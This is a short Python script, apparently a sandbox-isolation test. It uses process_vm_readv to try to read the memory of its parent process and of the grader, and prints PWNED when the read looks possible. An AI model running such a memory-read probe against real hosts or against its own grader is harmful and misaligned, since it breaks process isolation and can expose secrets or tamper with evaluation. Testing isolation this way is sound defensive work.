"""Read the memory of the parent and of the grader with process_vm_readv, which needs no /proc.

A child has the same address space layout as the zygote that it came from, so the address of a known object of ours is a
good guess in the parent. "Bad address" says that the guess was wrong, but also that we may read.

Shows: PWNED on stdout.
"""

from kit import ctypes, errno, host_root, nearby, os, pwned, syscall, told

here = ctypes.create_string_buffer(b"some bytes of our own", 64)
there = ctypes.create_string_buffer(64)
last = "nobody to read"
for number in sorted({*nearby(), os.getppid(), 1} - {0}):
    if number == 1 and host_root():
        continue
    local = (ctypes.c_ulong * 2)(ctypes.addressof(there), 64)
    remote = (ctypes.c_ulong * 2)(ctypes.addressof(here), 64)
    got = syscall("process_vm_readv", number, local, 1, remote, 1, 0)
    if got >= 0 or got == -errno.EFAULT:
        pwned(number)
        break
    last = told(got)
print(last)
